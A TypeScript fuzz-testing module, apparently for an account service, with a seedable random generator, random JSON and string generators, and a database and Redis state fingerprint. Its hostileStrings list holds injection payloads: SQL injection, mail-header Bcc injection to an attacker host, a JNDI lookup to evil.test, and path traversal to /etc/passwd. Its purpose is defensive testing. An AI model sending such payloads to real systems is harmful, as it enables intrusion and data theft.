import { createHash } from 'node:crypto';
import { Redis } from 'ioredis';
import type { TestService } from './service.ts';

/** mulberry32: small, fast and seedable, so a failing case can be replayed from its seed. */
export function createRandom(seed: number): Random {
  let state = seed >>> 0;
  const next = (): number => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const random: Random = {
    next,
    integer: (min, max) => min + Math.floor(next() * (max - min + 1)),
    pick: (items) => {
      const item = items[Math.floor(next() * items.length)];
      if (item === undefined) throw new Error('pick from an empty list');
      return item;
    },
    chance: (probability) => next() < probability,
  };
  return random;
}

export interface Random {
  next(): number;
  /** An integer from min to max, both included. */
  integer(min: number, max: number): number;
  pick<T>(items: readonly T[]): T;
  chance(probability: number): boolean;
}

/** Strings that have broken parsers, loggers, databases and mail headers somewhere. */
export const hostileStrings: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b@example.com',
  'victim@example.com\r\nBcc: attacker@evil.test',
  'victim@example.com\nSubject: hi',
  '\r\n\r\nGET / HTTP/1.1',
  'user@exa\u0000mple.com',
  "' OR '1'='1' --",
  "'); drop table users; --",
  '"; select pg_sleep(10); --',
  '<script>alert(1)</script>@example.com',
  '${jndi:ldap://evil.test/a}',
  '{{7*7}}',
  '%s%s%s%n',
  '../../../../etc/passwd',
  '\u202eexample.com@evil.test',
  'a\u200b@example.com',
  '\ufeffuser@example.com',
  '\ud800',
  '\udc00\ud800',
  '😀'.repeat(40),
  'é'.normalize('NFD').repeat(200),
  'ﷺ'.repeat(300),
  'x'.repeat(255) + '@example.com',
  'a@' + 'b'.repeat(64) + '.com',
  '@example.com',
  'user@',
  'user@@example.com',
  '"quoted"@example.com',
  'User <user@example.com>',
  'user@[127.0.0.1]',
  'user@localhost',
  '__proto__',
  'constructor',
  'prototype',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  'true',
  '[]',
  '{}',
  'A'.repeat(43),
  'A'.repeat(513),
  'a'.repeat(4097),
  '\t\v\f\b',
  String.fromCharCode(...Array.from({ length: 32 }, (_, code) => code)),
  '\u007f\u0080\u009f',
];

const alphabet = [
  ...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789',
  ...'@.+-_ !"#$%&\'()*,/:;<=>?[\\]^`{|}~',
  '\u0000',
  '\r',
  '\n',
  '\t',
  '\u001b',
  '\u00a0',
  '\u200b',
  '\u202e',
  '\ufeff',
  'é',
  'ß',
  'İ',
  'ﬃ',
  '𝔘',
  '😀',
  '\ud800',
  '\udfff',
];

export function randomString(random: Random, maxLength = 80): string {
  const length = random.chance(0.05) ? random.integer(4097, 6000) : random.integer(0, maxLength);
  let text = '';
  for (let index = 0; index < length; index += 1) text += random.pick(alphabet);
  return text;
}

const interestingKeys = [
  'email',
  'password',
  'token',
  'new_password',
  '__proto__',
  'constructor',
  'prototype',
  'is_admin',
  'is_verified',
  '',
  '$where',
];

/** Any JSON value, nested up to `depth`; keys lean towards the ones the routes read. */
export function randomJson(random: Random, depth = 3): unknown {
  const kind = random.integer(0, depth > 0 ? 7 : 4);
  switch (kind) {
    case 0:
      return null;
    case 1:
      return random.chance(0.5);
    case 2:
      return random.pick([0, -0, 1, -1, 1e308, -1e308, 5e-324, 2 ** 53 + 1, 0.1, random.next() * 1e6]);
    case 3:
    case 4:
      return random.chance(0.5) ? random.pick(hostileStrings) : randomString(random);
    case 5:
      return Array.from({ length: random.integer(0, 4) }, () => randomJson(random, depth - 1));
    default: {
      const value: Record<string, unknown> = {};
      for (let index = random.integer(0, 4); index > 0; index -= 1) {
        // defineProperty: a "__proto__" key becomes a real key, as JSON.parse would make it.
        Object.defineProperty(value, random.pick(interestingKeys), {
          value: randomJson(random, depth - 1),
          enumerable: true,
          configurable: true,
          writable: true,
        });
      }
      return value;
    }
  }
}

/** What the rejected requests must leave untouched: every row of every table, and every Redis key. */
export async function fingerprintState(service: TestService): Promise<string> {
  const parts: string[] = [];
  for (const table of ['users', 'user_tokens', 'sessions', 'email_outbox']) {
    const [row] = await service.query<{ rows: number; digest: string | null }>(
      `select count(*)::int as rows, md5(string_agg(t::text, '|' order by t::text)) as digest from ${table} t`,
    );
    parts.push(`${table}:${row?.rows}:${row?.digest ?? ''}`);
  }
  if (service.config.redis !== undefined) {
    const topology = service.config.redis.topology;
    if (topology.kind !== 'url') throw new Error('the fuzz fingerprint reads a Redis given by REDIS_URL');
    const redis = new Redis(topology.url, { lazyConnect: true, maxRetriesPerRequest: 1 });
    await redis.connect();
    try {
      const keys: string[] = [];
      let cursor = '0';
      do {
        const [next, found] = await redis.scan(
          cursor,
          'MATCH',
          `${service.config.redis.keyPrefix}*`,
          'COUNT',
          500,
        );
        cursor = next;
        keys.push(...found);
      } while (cursor !== '0');
      parts.push(`redis:${keys.length}:${createHash('sha256').update(keys.sort().join('\n')).digest('hex')}`);
    } finally {
      redis.disconnect();
    }
  }
  return parts.join('\n');
}
